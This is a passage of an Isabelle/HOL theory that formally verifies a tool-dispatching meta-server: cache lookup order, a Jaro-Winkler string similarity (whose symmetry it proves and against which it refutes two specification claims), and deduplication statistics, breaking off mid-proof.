text \<open>The white space of JSON texts, and the characters of the strings and keys of a value.\<close>

definition isWhitespace :: "char \<Rightarrow> bool" where
  "isWhitespace c = ((of_char c :: nat) \<in> {9, 10, 13, 32})"

fun stringChars :: "json \<Rightarrow> char set" where
  "stringChars (JStr s) = set s"
| "stringChars (JArr xs) = (\<Union>x \<in> set xs. stringChars x)"
| "stringChars (JObj ps) = (\<Union>p \<in> set ps. set (fst p) \<union> stringChars (snd p))"
| "stringChars _ = {}"

text \<open>
  The members of a merged tool with their scores, in member order, and the score of a ranked
  member; the members of a ranking whose server is connected, as the requests that would reach
  them, and the cache keys of such requests.
\<close>

definition scoredMembers :: "int \<Rightarrow> MCPMetaServer \<Rightarrow> MergedTool \<Rightarrow> (string \<times> string \<times> rat) list" where
  "scoredMembers now st m =
     map (\<lambda>(sid, tool). (sid, name tool, calculateServerScore now st sid (name tool)))
       (originalTools m)"

definition rankScore :: "string \<times> string \<times> rat \<Rightarrow> rat" where
  "rankScore x = snd (snd x)"

definition isConnected :: "MCPMetaServer \<Rightarrow> string \<Rightarrow> bool" where
  "isConnected st sid =
     (case map_of (servers st) sid of None \<Rightarrow> False | Some info \<Rightarrow> status info = Connected)"

definition connectedRanked ::
  "MCPMetaServer \<Rightarrow> json option \<Rightarrow> (string \<times> string \<times> rat) list
   \<Rightarrow> (string \<times> string \<times> json option) list"
where
  "connectedRanked st args ranked =
     map (\<lambda>(sid, toolName, sc). (sid, toolName, args))
       (filter (\<lambda>(sid, toolName, sc). isConnected st sid) ranked)"

definition cacheKeys :: "(string \<times> string \<times> json option) list \<Rightarrow> string list" where
  "cacheKeys reqs = map (\<lambda>(sid, toolName, args). cacheKeyOf sid toolName args) reqs"

text \<open>
  What the dispatcher is expected to do with a merged tool, in the words of the amended
  property and independently of the state the code threads through its loop.  A usable cached
  result for a key is an entry that has not expired and whose data is truthy.  The walk goes
  through the connected members in ranked order, reading only the cache as it was before the
  invocation and the clock: a member with a usable cached result ends the walk with that
  result and is not called; otherwise the member is called, and the walk ends with its result
  if the call returns and goes on, after the time the call took, if it throws.  The value is
  the list of calls made and the result (\<open>None\<close> if every call threw).
\<close>

definition cachedResult :: "CachingSystem \<Rightarrow> int \<Rightarrow> string \<Rightarrow> json option" where
  "cachedResult c now key =
     (case map_of (cache c) key of
        None \<Rightarrow> None
      | Some entry \<Rightarrow>
          (if expiry entry > of_int now \<and> truthy (data entry) then Some (data entry) else None))"

fun expectedAttempts ::
  "Environment \<Rightarrow> CachingSystem \<Rightarrow> int \<Rightarrow> (string \<times> string \<times> json option) list
   \<Rightarrow> (string \<times> string \<times> json option) list \<times> json option"
where
  "expectedAttempts env c now [] = ([], None)"
| "expectedAttempts env c now ((sid, toolName, args) # rest) =
     (case cachedResult c now (cacheKeyOf sid toolName args) of
        Some v \<Rightarrow> ([], Some v)
      | None \<Rightarrow>
          (case remoteCall env sid toolName args of
             (Returned v, elapsed) \<Rightarrow> ([(sid, toolName, args)], Some v)
           | (Threw msg, elapsed) \<Rightarrow>
               (case expectedAttempts env c (now + elapsed) rest of
                  (sent, res) \<Rightarrow> ((sid, toolName, args) # sent, res))))"

section \<open>Properties of the similarity kernel\<close>

text \<open>
  C8.  The specification gives the similarity of \<open>read_file\<close> and \<open>read_files\<close> as 0.974
  within 0.001.  The code computes 9 matches, no transposition, a common prefix capped at 4,
  hence Jaro 29/30 and Jaro-Winkler exactly 49/50 = 0.98.
\<close>

theorem read_file_similarity_value:
  "calculateStringSimilarity ''read_file'' ''read_files'' = Some (49 / 50)"
  by code_simp

text \<open>C8, as stated, fails: 0.98 is further than 0.001 from 0.974.\<close>

theorem read_file_similarity_not_0974:
  "calculateStringSimilarity ''read_file'' ''read_files'' = Some (98 / 100)
   \<and> \<not> \<bar>98 / 100 - 974 / 1000\<bar> \<le> (1 / 1000 :: rat)"
  by code_simp

subsection \<open>Symmetry of the string similarity\<close>

lemma stable_unique_aux:
  assumes m1: "isMatching M1" and m2: "isMatching M2" and s2: "stableIn E M2" and e1: "M1 \<subseteq> E"
    and e2: "M2 \<subseteq> E" and s1: "stableIn E M1"
  shows "(i, j) \<in> M1 \<longleftrightarrow> (i, j) \<in> M2"
proof (induction "i + j" arbitrary: i j rule: less_induct)
  case less
  have dir: "(i, j) \<in> B" if ab: "(i, j) \<in> A" and ma: "isMatching A" and sb: "stableIn E B"
      and ae: "A \<subseteq> E" and ih: "\<And>i' j'. i' + j' < i + j \<Longrightarrow> (i', j') \<in> B \<Longrightarrow> (i', j') \<in> A"
    for A B
  proof -
    from ab ae have "(i, j) \<in> E" by blast
    with sb consider "(i, j) \<in> B" | j' where "j' < j" "(i, j') \<in> B"
      | i' where "i' < i" "(i', j) \<in> B"
      unfolding stableIn_def by blast
    then show ?thesis
    proof cases
      case 1
      then show ?thesis .
    next
      case 2
      then have "(i, j') \<in> A" using ih [of i j'] by simp
      with ab ma have "j = j'" unfolding isMatching_def by blast
      with 2 show ?thesis by simp
    next
      case 3
      then have "(i', j) \<in> A" using ih [of i' j] by simp
      with ab ma have "i = i'" unfolding isMatching_def by blast
      with 3 show ?thesis by simp
    qed
  qed
  show ?case
  proof
    assume "(i, j) \<in> M1"
    then show "(i, j) \<in> M2" using m1 s2 e1 less by (intro dir [of M1 M2]) auto
  next
    assume "(i, j) \<in> M2"
    then show "(i, j) \<in> M1" using m2 s1 e2 less by (intro dir [of M2 M1]) auto
  qed
qed

lemma stable_unique:
  assumes "isMatching M1" "isMatching M2" "M1 \<subseteq> E" "M2 \<subseteq> E" "stableIn E M1" "stableIn E M2"
  shows "M1 = M2"
  using stable_unique_aux [OF assms(1,2,6,3,4,5)] by auto

lemma find_upt_Some:
  "List.find P [a..<b] = Some j \<Longrightarrow> a \<le> j \<and> j < b \<and> P j \<and> (\<forall>j'. a \<le> j' \<and> j' < j \<longrightarrow> \<not> P j')"
proof -
  assume "List.find P [a..<b] = Some j"
  then obtain i where i: "i < length [a..<b]" "P ([a..<b] ! i)" "j = [a..<b] ! i"
      "\<forall>l<i. \<not> P ([a..<b] ! l)"
    unfolding find_Some_iff by blast
  then have j: "j = a + i" "i < b - a" by simp_all
  have "\<not> P j'" if "a \<le> j'" "j' < j" for j'
  proof -
    from that j have "j' - a < i" by linarith
    with i(4) have "\<not> P ([a..<b] ! (j' - a))" by blast
    moreover have "[a..<b] ! (j' - a) = j'" using that j by simp
    ultimately show ?thesis by simp
  qed
  with i j show ?thesis by auto
qed

lemma find_upt_None: "List.find P [a..<b] = None \<Longrightarrow> a \<le> j \<Longrightarrow> j < b \<Longrightarrow> \<not> P j"
  by (auto simp: find_None_iff)

lemma window_range:
  "(nat (max 0 (int i - w)) \<le> j \<and> j < nat (min (int i + w + 1) (int m)))
     \<longleftrightarrow> (j < m \<and> \<bar>int i - int j\<bar> \<le> w)"
  by auto

lemma matchInv_step:
  assumes k: "k < length s1" and inv: "matchInv s1 s2 k M st"
  shows "\<exists>M'. matchInv s1 s2 (Suc k) M' (matchStep s1 s2 (matchWindow s1 s2) st k)"
proof -
  obtain m1 m2 cnt where st: "st = (m1, m2, cnt)" by (cases st) auto
  let ?w = "matchWindow s1 s2"
  let ?start = "nat (max 0 (int k - ?w))"
  let ?stop = "nat (min (int k + ?w + 1) (int (length s2)))"
  let ?P = "\<lambda>j. \<not> m2 ! j \<and> s1 ! k = s2 ! j"
  from inv st have l1: "length m1 = length s1" and l2: "length m2 = length s2"
    and fin: "finite M" and mat: "isMatching M" and sub: "M \<subseteq> matchEdges s1 s2"
    and dom: "fst ` M \<subseteq> {..<k}"
    and f1: "\<forall>i<length s1. m1 ! i \<longleftrightarrow> i \<in> fst ` M"
    and f2: "\<forall>j<length s2. m2 ! j \<longleftrightarrow> j \<in> snd ` M"
    and cnt: "cnt = card M"
    and stab: "\<forall>(i, j) \<in> matchEdges s1 s2. i < k \<longrightarrow>
              (i, j) \<in> M \<or> (\<exists>j'<j. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j) \<in> M)"
    by (simp_all add: matchInv_def)
  have edge_k: "(k, j) \<in> matchEdges s1 s2 \<longleftrightarrow> (?start \<le> j \<and> j < ?stop \<and> s1 ! k = s2 ! j)" for j
    using k window_range [of k ?w j "length s2"] by (auto simp: matchEdges_def)
  have taken: "\<exists>i'<k. (i', j) \<in> M" if "j < length s2" "m2 ! j" for j
  proof -
    from that f2 have "j \<in> snd ` M" by blast
    then obtain i' where "(i', j) \<in> M" by force
    moreover from this dom have "i' < k" by force
    ultimately show ?thesis by blast
  qed
  show ?thesis
  proof (cases "findMatch s2 m2 (s1 ! k) ?start ?stop")
    case None
    then have step: "matchStep s1 s2 ?w st k = st"
      by (simp add: st Let_def)
    have new: "(k, j) \<in> M \<or> (\<exists>j'<j. (k, j') \<in> M) \<or> (\<exists>i'<k. (i', j) \<in> M)"
      if "(k, j) \<in> matchEdges s1 s2" for j
    proof -
      from that have r: "?start \<le> j" "j < ?stop" "s1 ! k = s2 ! j" using edge_k by auto
      with None have "\<not> ?P j" unfolding findMatch_def by (intro find_upt_None [where P = ?P])
      with r have "m2 ! j" by simp
      moreover from r have "j < length s2" by simp
      ultimately show ?thesis using taken by blast
    qed
    have "(i, j0) \<in> M \<or> (\<exists>j'<j0. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j0) \<in> M)"
      if e: "(i, j0) \<in> matchEdges s1 s2" and "i < Suc k" for i j0
    proof -
      from that consider "i < k" | "i = k" by linarith
      then show ?thesis
      proof cases
        case 1
        with stab e show ?thesis by blast
      next
        case 2
        with new e show ?thesis by blast
      qed
    qed
    then have stab': "\<forall>(i, j0) \<in> matchEdges s1 s2. i < Suc k \<longrightarrow>
              (i, j0) \<in> M \<or> (\<exists>j'<j0. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j0) \<in> M)"
      by blast
    have dom': "fst ` M \<subseteq> {..<Suc k}" using dom by auto
    have "matchInv s1 s2 (Suc k) M st"
      unfolding matchInv_def st using l1 l2 fin mat sub dom' f1 f2 cnt stab'
      by simp
    with step show ?thesis by auto
  next
    case (Some j)
    then have step: "matchStep s1 s2 ?w st k = (m1[k := True], m2[j := True], cnt + 1)"
      by (simp add: st Let_def)
    from Some have fj: "?start \<le> j" "j < ?stop" "?P j" "\<forall>j'. ?start \<le> j' \<and> j' < j \<longrightarrow> \<not> ?P j'"
      unfolding findMatch_def using find_upt_Some [where P = ?P] by blast+
    then have ej: "(k, j) \<in> matchEdges s1 s2" using edge_k by blast
    have jl: "j < length s2" using fj by simp
    have jfree: "j \<notin> snd ` M" using fj(3) f2 jl by blast
    have kfree: "k \<notin> fst ` M" using dom by auto
    let ?M = "insert (k, j) M"
    have fin': "finite ?M" using fin by simp
    have nk: "i \<noteq> k" if "(i, j') \<in> M" for i j' using that kfree by force
    have nj: "j' \<noteq> j" if "(i, j') \<in> M" for i j' using that jfree by force
    have mat': "isMatching ?M"
      using mat nk nj unfolding isMatching_def insert_iff prod.inject by blast
    have sub': "?M \<subseteq> matchEdges s1 s2" using sub ej by simp
    have dom': "fst ` ?M \<subseteq> {..<Suc k}" using dom by auto
    have f1': "\<forall>i<length s1. m1[k := True] ! i \<longleftrightarrow> i \<in> fst ` ?M"
      using f1 l1 k by (auto simp: nth_list_update)
    have f2': "\<forall>j'<length s2. m2[j := True] ! j' \<longleftrightarrow> j' \<in> snd ` ?M"
      using f2 l2 jl by (auto simp: nth_list_update)
    have cnt': "cnt + 1 = card ?M"
      using cnt fin kfree by (subst card_insert_disjoint) (auto simp: image_iff)
    have new: "(k, j0) \<in> ?M \<or> (\<exists>j'<j0. (k, j') \<in> ?M) \<or> (\<exists>i'<k. (i', j0) \<in> ?M)"
      if "(k, j0) \<in> matchEdges s1 s2" for j0
    proof -
      from that have r: "?start \<le> j0" "j0 < ?stop" "s1 ! k = s2 ! j0" using edge_k by auto
      consider "j0 = j" | "j < j0" | "j0 < j" by linarith
      then show ?thesis
      proof cases
        case 1
        then show ?thesis by simp
      next
        case 2
        then show ?thesis by blast
      next
        case 3
        with fj(4) r have "\<not> ?P j0" by blast
        with r have "m2 ! j0" by simp
        moreover from r have "j0 < length s2" by simp
        ultimately show ?thesis using taken by blast
      qed
    qed
    have "(i, j0) \<in> ?M \<or> (\<exists>j'<j0. (i, j') \<in> ?M) \<or> (\<exists>i'<i. (i', j0) \<in> ?M)"
      if e: "(i, j0) \<in> matchEdges s1 s2" and "i < Suc k" for i j0
    proof -
      from that consider "i < k" | "i = k" by linarith
      then show ?thesis
      proof cases
        case 1
        with stab e have "(i, j0) \<in> M \<or> (\<exists>j'<j0. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j0) \<in> M)"
          by blast
        then show ?thesis by blast
      next
        case 2
        with new e show ?thesis by blast
      qed
    qed
    then have stab': "\<forall>(i, j0) \<in> matchEdges s1 s2. i < Suc k \<longrightarrow>
              (i, j0) \<in> ?M \<or> (\<exists>j'<j0. (i, j') \<in> ?M) \<or> (\<exists>i'<i. (i', j0) \<in> ?M)"
      by blast
    have "matchInv s1 s2 (Suc k) ?M (m1[k := True], m2[j := True], cnt + 1)"
      unfolding matchInv_def using l1 l2 fin' mat' sub' dom' f1' f2' cnt' stab'
      by (simp del: insert_iff image_insert)
    with step show ?thesis by auto
  qed
qed

lemma matchInv_init:
  "matchInv s1 s2 0 {} (replicate (length s1) False, replicate (length s2) False, 0)"
  by (simp add: matchInv_def isMatching_def)

lemma matchInv_fold:
  "k \<le> length s1 \<Longrightarrow>
     \<exists>M. matchInv s1 s2 k M
            (foldl (matchStep s1 s2 (matchWindow s1 s2))
               (replicate (length s1) False, replicate (length s2) False, 0) [0..<k])"
proof (induction k)
  case 0
  show ?case using matchInv_init by auto
next
  case (Suc k)
  then obtain M where "matchInv s1 s2 k M
            (foldl (matchStep s1 s2 (matchWindow s1 s2))
               (replicate (length s1) False, replicate (length s2) False, 0) [0..<k])"
    by auto
  moreover have "k < length s1" using Suc.prems by simp
  ultimately show ?case using matchInv_step by (simp del: matchStep.simps) 
qed

lemma findMatches_stable:
  "\<exists>M. finite M \<and> isMatching M \<and> M \<subseteq> matchEdges s1 s2 \<and> stableIn (matchEdges s1 s2) M
       \<and> findMatches s1 s2 = (flagsOf (length s1) (fst ` M), flagsOf (length s2) (snd ` M), card M)"
proof -
  obtain M where inv: "matchInv s1 s2 (length s1) M (findMatches s1 s2)"
    using matchInv_fold [of "length s1" s1 s2] unfolding findMatches_def by blast
  obtain m1 m2 cnt where st: "findMatches s1 s2 = (m1, m2, cnt)" by (cases "findMatches s1 s2") auto
  from inv st have l1: "length m1 = length s1" and l2: "length m2 = length s2"
    and fin: "finite M" and mat: "isMatching M" and sub: "M \<subseteq> matchEdges s1 s2"
    and f1: "\<forall>i<length s1. m1 ! i \<longleftrightarrow> i \<in> fst ` M"
    and f2: "\<forall>j<length s2. m2 ! j \<longleftrightarrow> j \<in> snd ` M"
    and cnt: "cnt = card M"
    and stab: "\<forall>(i, j) \<in> matchEdges s1 s2. i < length s1 \<longrightarrow>
              (i, j) \<in> M \<or> (\<exists>j'<j. (i, j') \<in> M) \<or> (\<exists>i'<i. (i', j) \<in> M)"
    by (simp_all add: matchInv_def)
  have "stableIn (matchEdges s1 s2) M"
    unfolding stableIn_def using stab by (auto simp: matchEdges_def)
  moreover have "m1 = flagsOf (length s1) (fst ` M)"
    using l1 f1 by (intro nth_equalityI) (simp_all add: flagsOf_def)
  moreover have "m2 = flagsOf (length s2) (snd ` M)"
    using l2 f2 by (intro nth_equalityI) (simp_all add: flagsOf_def)
  ultimately show ?thesis using fin mat sub cnt st by blast
qed

lemma matchWindow_sym: "matchWindow s2 s1 = matchWindow s1 s2"
  by (simp add: matchWindow_def max.commute)

lemma matchEdges_sym: "matchEdges s2 s1 = (matchEdges s1 s2)\<inverse>"
proof -
  have w: "matchWindow s2 s1 = matchWindow s1 s2" by (rule matchWindow_sym)
  show ?thesis unfolding matchEdges_def w by (auto simp: abs_minus_commute)
qed

lemma isMatching_converse: "isMatching (M\<inverse>) = isMatching M"
  unfolding isMatching_def converse_iff by blast

lemma stableIn_converse: "stableIn (E\<inverse>) (M\<inverse>) = stableIn E M"
  unfolding stableIn_def by (simp add: Ball_def) blast

lemma findMatches_sym:
  "findMatches s1 s2 = (m1, m2, cnt) \<Longrightarrow> findMatches s2 s1 = (m2, m1, cnt)"
proof -
  assume a: "findMatches s1 s2 = (m1, m2, cnt)"
  obtain M where M: "finite M" "isMatching M" "M \<subseteq> matchEdges s1 s2"
      "stableIn (matchEdges s1 s2) M"
      "findMatches s1 s2 = (flagsOf (length s1) (fst ` M), flagsOf (length s2) (snd ` M), card M)"
    using findMatches_stable [of s1 s2] by blast
  obtain N where N: "finite N" "isMatching N" "N \<subseteq> matchEdges s2 s1"
      "stableIn (matchEdges s2 s1) N"
      "findMatches s2 s1 = (flagsOf (length s2) (fst ` N), flagsOf (length s1) (snd ` N), card N)"
    using findMatches_stable [of s2 s1] by blast
  have E: "matchEdges s2 s1 = (matchEdges s1 s2)\<inverse>" by (rule matchEdges_sym)
  have "isMatching (N\<inverse>)" using N(2) by (simp only: isMatching_converse)
  moreover have "N\<inverse> \<subseteq> matchEdges s1 s2" using N(3) unfolding E by blast
  moreover have "stableIn (matchEdges s1 s2) (N\<inverse>)"
    using N(4) stableIn_converse [of "matchEdges s1 s2" "N\<inverse>"] unfolding E
    by (simp only: converse_converse)
  ultimately have eq: "N\<inverse> = M" using M(2,3,4) by (intro stable_unique)
  then have "fst ` N = snd ` M" "snd ` N = fst ` M" by force+
  moreover have "card N = card M" using eq by (metis card_inverse)
  ultimately show ?thesis using a M(5) N(5) by simp
qed

lemma mismatches_swap: "mismatches s2 s1 (zip ys xs) = mismatches s1 s2 (zip xs ys)"
proof (induction xs arbitrary: ys)
  case Nil
  show ?case by (simp add: mismatches_def)
next
  case (Cons x xs)
  show ?case
  proof (cases ys)
    case Nil
    then show ?thesis by (simp add: mismatches_def)
  next
    case (Cons y ys')
    with Cons.IH [of ys'] show ?thesis by (auto simp: mismatches_def)
  qed
qed

lemma skip_filter:
  "filter (\<lambda>j. m2 ! j) [k..<length m2] = j # rest \<Longrightarrow>
     skipUnmatched m2 k = Some j \<and> rest = filter (\<lambda>j. m2 ! j) [Suc j..<length m2]"
proof (induction m2 k rule: skipUnmatched.induct)
  case (1 m2 k)
  show ?case
  proof (cases "k < length m2")
    case False
    with "1.prems" show ?thesis by simp
  next
    case True
    then have u: "[k..<length m2] = k # [Suc k..<length m2]" by (rule upt_conv_Cons)
    show ?thesis
    proof (cases "m2 ! k")
      case True
      with "1.prems" u \<open>k < length m2\<close> show ?thesis
        by (subst skipUnmatched.simps) auto
    next
      case False
      with "1.prems" u have "filter (\<lambda>j. m2 ! j) [k + 1..<length m2] = j # rest" by simp
      with "1.IH" [OF True False] have
        "skipUnmatched m2 (k + 1) = Some j \<and> rest = filter (\<lambda>j. m2 ! j) [Suc j..<length m2]"
        by blast
      with True False show ?thesis by (subst skipUnmatched.simps) simp
    qed
  qed
qed

lemma trans_fold:
  "length (filter (\<lambda>i. m1 ! i) [p..<n]) \<le> length (filter (\<lambda>j. m2 ! j) [k..<length m2]) \<Longrightarrow>
   \<exists>k'. foldl (transStep s1 s2 m1 m2) (Some (k, t)) [p..<n]
          = Some (k', t + mismatches s1 s2
                           (zip (filter (\<lambda>i. m1 ! i) [p..<n])
                                (filter (\<lambda>j. m2 ! j) [k..<length m2])))"
proof (induction "n - p" arbitrary: p k t)
  case 0
  then show ?case by (simp add: mismatches_def)
next
  case (Suc d)
  then have pn: "p < n" and d: "d = n - Suc p" by linarith+
  then have u: "[p..<n] = p # [Suc p..<n]" by (simp add: upt_conv_Cons)
  show ?case
  proof (cases "m1 ! p")
    case False
    then have f: "filter (\<lambda>i. m1 ! i) [p..<n] = filter (\<lambda>i. m1 ! i) [Suc p..<n]"
      using u by simp
    from Suc.prems f have "length (filter (\<lambda>i. m1 ! i) [Suc p..<n])
        \<le> length (filter (\<lambda>j. m2 ! j) [k..<length m2])" by simp
    from Suc.hyps(1) [OF d this, of t] False u f show ?thesis by simp
  next
    case True
    then have f: "filter (\<lambda>i. m1 ! i) [p..<n] = p # filter (\<lambda>i. m1 ! i) [Suc p..<n]"
      using u by simp
    with Suc.prems obtain j rest where jr: "filter (\<lambda>j. m2 ! j) [k..<length m2] = j # rest"
      by (cases "filter (\<lambda>j. m2 ! j) [k..<length m2]") auto
    from skip_filter [OF jr] have sk: "skipUnmatched m2 k = Some j"
      and rest: "rest = filter (\<lambda>j. m2 ! j) [Suc j..<length m2]" by blast+
    from Suc.prems f jr rest have le: "length (filter (\<lambda>i. m1 ! i) [Suc p..<n])
        \<le> length (filter (\<lambda>j. m2 ! j) [Suc j..<length m2])" by simp
    from Suc.hyps(1) [OF d le, of "if s1 ! p \<noteq> s2 ! j then t + 1 else t"]
    obtain k' where "foldl (transStep s1 s2 m1 m2)
        (Some (Suc j, if s1 ! p \<noteq> s2 ! j then t + 1 else t)) [Suc p..<n]
      = Some (k', (if s1 ! p \<noteq> s2 ! j then t + 1 else t)
                + mismatches s1 s2 (zip (filter (\<lambda>i. m1 ! i) [Suc p..<n])
                                        (filter (\<lambda>j. m2 ! j) [Suc j..<length m2])))"
      by blast
    then show ?thesis
      using True u sk f jr rest by (auto simp: mismatches_def)
  qed
qed

lemma countTranspositions_eq:
  assumes "length m1 = length s1" and "length (matchedOf m1) \<le> length (matchedOf m2)"
  shows "countTranspositions s1 s2 m1 m2
           = Some (mismatches s1 s2 (zip (matchedOf m1) (matchedOf m2)))"
  using trans_fold [of m1 0 "length s1" m2 0 s1 s2 0] assms
  by (auto simp: countTranspositions_def matchedOf_def)

lemma matchedOf_flags:
  "A \<subseteq> {..<n} \<Longrightarrow> length (matchedOf (flagsOf n A)) = card A"
proof -
  assume A: "A \<subseteq> {..<n}"
  have "matchedOf (flagsOf n A) = filter (\<lambda>i. i \<in> A) [0..<n]"
    unfolding matchedOf_def flagsOf_def by (rule filter_cong) simp_all
  moreover have "distinct (filter (\<lambda>i. i \<in> A) [0..<n])" by simp
  moreover have "set (filter (\<lambda>i. i \<in> A) [0..<n]) = A" using A by auto
  ultimately show ?thesis by (metis distinct_card)
qed

lemma isMatching_card:
  "finite M \<Longrightarrow> isMatching M \<Longrightarrow> card (fst ` M) = card M \<and> card (snd ` M) = card M"
proof -
  assume "finite M" and m: "isMatching M"
  have "inj_on fst M" using m unfolding isMatching_def inj_on_def by (metis prod.collapse)
  moreover have "inj_on snd M" using m unfolding isMatching_def inj_on_def by (metis prod.collapse)
  ultimately show ?thesis by (simp add: card_image)
qed

lemma findMatches_counts:
  assumes "findMatches s1 s2 = (m1, m2, cnt)"
  shows "length m1 = length s1 \<and> length m2 = length s2
         \<and> length (matchedOf m1) = cnt \<and> length (matchedOf m2) = cnt"
proof -
  obtain M where M: "finite M" "isMatching M" "M \<subseteq> matchEdges s1 s2"
      "findMatches s1 s2 = (flagsOf (length s1) (fst ` M), flagsOf (length s2) (snd ` M), card M)"
    using findMatches_stable [of s1 s2] by blast
  have "fst ` M \<subseteq> {..<length s1}" "snd ` M \<subseteq> {..<length s2}"
    using M(3) by (auto simp: matchEdges_def)
  then have "length (matchedOf (flagsOf (length s1) (fst ` M))) = card M"
    "length (matchedOf (flagsOf (length s2) (snd ` M))) = card M"
    using matchedOf_flags isMatching_card [OF M(1,2)] by simp_all
  moreover have "length (flagsOf (length s1) (fst ` M)) = length s1"
    "length (flagsOf (length s2) (snd ` M)) = length s2"
    by (simp_all add: flagsOf_def)
  ultimately show ?thesis using assms M(4) by auto
qed

lemma jaroSimilarity_cases:
  assumes "findMatches s1 s2 = (m1, m2, cnt)" and "s1 \<noteq> []" and "s2 \<noteq> []"
  shows "jaroSimilarity s1 s2 =
           (if cnt = 0 then Some 0
            else Some ((of_nat cnt / of_nat (length s1) + of_nat cnt / of_nat (length s2)
                        + (of_nat cnt
                           - of_nat (mismatches s1 s2 (zip (matchedOf m1) (matchedOf m2))) / 2)
                          / of_nat cnt) / 3))"
proof -
  from findMatches_counts [OF assms(1)] have
    "length m1 = length s1" "length (matchedOf m1) \<le> length (matchedOf m2)" by simp_all
  then have "countTranspositions s1 s2 m1 m2
           = Some (mismatches s1 s2 (zip (matchedOf m1) (matchedOf m2)))"
    by (rule countTranspositions_eq)
  with assms show ?thesis by (simp add: jaroSimilarity_def)
qed

lemma jaroSimilarity_sym: "jaroSimilarity s2 s1 = jaroSimilarity s1 s2"
proof (cases "s1 = [] \<or> s2 = []")
  case True
  then show ?thesis by (auto simp: jaroSimilarity_def)
next
  case False
  obtain m1 m2 cnt where a: "findMatches s1 s2 = (m1, m2, cnt)"
    by (cases "findMatches s1 s2") auto
  then have b: "findMatches s2 s1 = (m2, m1, cnt)" by (rule findMatches_sym)
  from False have n: "s1 \<noteq> []" "s2 \<noteq> []" by simp_all
  show ?thesis
    unfolding jaroSimilarity_cases [OF a n] jaroSimilarity_cases [OF b n(2,1)]
    by (simp add: mismatches_swap [of s2 s1] add.commute)
qed

lemma jaroSimilarity_total: "\<exists>v. jaroSimilarity s1 s2 = Some v"
proof (cases "s1 = [] \<or> s2 = []")
  case True
  then show ?thesis by (auto simp: jaroSimilarity_def)
next
  case False
  obtain m1 m2 cnt where a: "findMatches s1 s2 = (m1, m2, cnt)"
    by (cases "findMatches s1 s2") auto
  from False have n: "s1 \<noteq> []" "s2 \<noteq> []" by simp_all
  have "\<exists>v. (if c then Some x else Some y) = Some v" for c and x y :: rat
    by (cases c) (simp_all only: if_True if_False, blast+)
  then show ?thesis unfolding jaroSimilarity_cases [OF a n] by blast
qed

lemma commonPrefixLength_sym: "commonPrefixLength s2 s1 = commonPrefixLength s1 s2"
  by (induction s1 s2 rule: commonPrefixLength.induct) auto

lemma sim_sym: "calculateStringSimilarity b a = calculateStringSimilarity a b"
proof -
  have j: "jaroSimilarity (toLowerCase b) (toLowerCase a)
           = jaroSimilarity (toLowerCase a) (toLowerCase b)"
    by (rule jaroSimilarity_sym)
  have c: "commonPrefixLength (toLowerCase b) (toLowerCase a)
           = commonPrefixLength (toLowerCase a) (toLowerCase b)"
    by (rule commonPrefixLength_sym)
  show ?thesis
    unfolding calculateStringSimilarity_def j c by auto
qed

lemma sim_total: "\<exists>v. calculateStringSimilarity a b = Some v"
  using jaroSimilarity_total [of "toLowerCase a" "toLowerCase b"]
  by (auto simp: calculateStringSimilarity_def Let_def)

text \<open>
  C7, as stated, fails at the empty string: the guard \<open>!str1 || !str2\<close> returns 0 for two
  empty inputs, so \<open>sim(a, a) = 1\<close> does not hold for \<open>a = ""\<close>.
\<close>

theorem empty_strings_similarity_zero:
  "calculateStringSimilarity [] [] = Some 0 \<and> calculateStringSimilarity [] [] \<noteq> Some 1"
  by (simp add: calculateStringSimilarity_def)

text \<open>
  C7, amended.  The string similarity always returns, it is symmetric, it is 1 for two equal
  non-empty strings, and it is 0 as soon as one of the two strings is empty, also when both
  are.
\<close>

theorem string_similarity_symmetric:
  "calculateStringSimilarity a b = calculateStringSimilarity b a
   \<and> (\<exists>v. calculateStringSimilarity a b = Some v)
   \<and> (a \<noteq> [] \<longrightarrow> calculateStringSimilarity a a = Some 1)
   \<and> (a = [] \<or> b = [] \<longrightarrow> calculateStringSimilarity a b = Some 0)"
proof -
  have "a \<noteq> [] \<Longrightarrow> calculateStringSimilarity a a = Some 1"
    by (simp add: calculateStringSimilarity_def)
  moreover have "a = [] \<or> b = [] \<Longrightarrow> calculateStringSimilarity a b = Some 0"
    by (simp add: calculateStringSimilarity_def)
  ultimately show ?thesis using sim_sym [of a b] sim_total [of a b] by blast
qed

theorem string_similarity_symmetric_witness:
  "calculateStringSimilarity ''read_file'' [] = calculateStringSimilarity [] ''read_file''
   \<and> calculateStringSimilarity ''read_file'' ''read_file'' = Some 1
   \<and> calculateStringSimilarity ''read_file'' [] = Some 0"
proof -
  have h1: "''read_file'' \<noteq> []" by simp
  have h2: "''read_file'' = [] \<or> ([] :: string) = []" by simp
  from string_similarity_symmetric [of "''read_file''" "[]"] h1 h2 show ?thesis by blast
qed

section \<open>Properties of the deduplication engine\<close>

text \<open>
  C10.  With deduplication disabled and a non-empty tool list, \<open>getStats\<close> reports no merged
  group, average confidence 0 and a reduction of 100 percent, because \<open>mergeTools\<close> returns
  the empty list; \<open>configure_deduplication\<close> with \<open>getStats = true\<close> returns these statistics
  for the tools of the connected servers.
\<close>

theorem disabled_deduplication_stats:
  "(\<not> enabled cfg \<and> ts \<noteq> [] \<longrightarrow>
      getStats cfg ts =
        Some \<lparr>totalTools = length ts, mergedGroups = 0, reductionPercentage = 100,
              avgConfidence = 0\<rparr>)
   \<and> (arg_getStats args \<and> \<not> enabled (applyUpdates args (deduplication st))
        \<and> connectedServerTools st \<noteq> [] \<longrightarrow>
      map_option (\<lambda>r. res_stats (fst r)) (handleConfigureDeduplication st args) =
        Some (Some \<lparr>totalTools = length (connectedServerTools st), mergedGroups = 0,
                    reductionPercentage = 100, avgConfidence = 0\<rparr>))"
proof -
  have stats: "getStats c es =
      Some \<lparr>totalTools = length es, mergedGroups = 0, reductionPercentage = 100,
            avgConfidence = 0\<rparr>" if "\<not> enabled c" and "es \<noteq> []" for c es
    using that by (simp add: getStats_def mergeTools_def)
  have conn: "connectedServerTools (s\<lparr>deduplication := c\<rparr>) = connectedServerTools s" for s c
    by (simp add: connectedServerTools_def)
  have refresh: "refreshToolsList s = Some s' \<Longrightarrow>
      deduplication s' = deduplication s \<and> connectedServerTools s' = connectedServerTools s"
    for s s'
    by (auto simp: refreshToolsList_def Let_def connectedServerTools_def
             split: if_splits option.splits)
  have off: "\<not> enabled (deduplication s) \<Longrightarrow> refreshToolsList s \<noteq> None" for s
